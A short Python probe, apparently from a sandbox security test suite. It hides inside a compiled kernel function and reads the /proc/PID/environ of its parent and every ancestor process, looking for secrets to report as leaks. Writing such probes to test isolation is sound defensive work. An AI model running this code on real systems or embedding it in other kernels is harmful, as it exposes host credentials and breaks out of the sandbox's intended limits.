"""Attack: read the environment of the parent (the worker's job process, or
kforge-sim) and of every ancestor up to pid 1, through /proc/PID/environ."""
# @@PRELUDE@@


def _ppid_of(pid):
    for line in read_file("/proc/%d/status" % pid).decode("latin-1").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


@nki.jit
def kernel(x):
    pid = os.getppid()
    if pid == 0:
        R.note("getppid()=0: parent outside our pid namespace")
    seen = 0
    while pid > 0 and seen < 16:
        seen += 1
        try:
            data = read_file("/proc/%d/environ" % pid, 1 << 20)
            s = find_secret(data)
            if s:
                R.leak("/proc/%d/environ: %s" % (pid, s))
            elif data and same_pid_ns():
                R.leak("/proc/%d/environ readable (%d bytes)" % (pid, len(data)))
            else:
                R.note("/proc/%d/environ: nothing secret" % pid)
        except OSError as ex:
            R.note("/proc/%d/environ %s" % (pid, oserr(ex)))
        try:
            pid = _ppid_of(pid)
        except OSError:
            break
    R.finish()
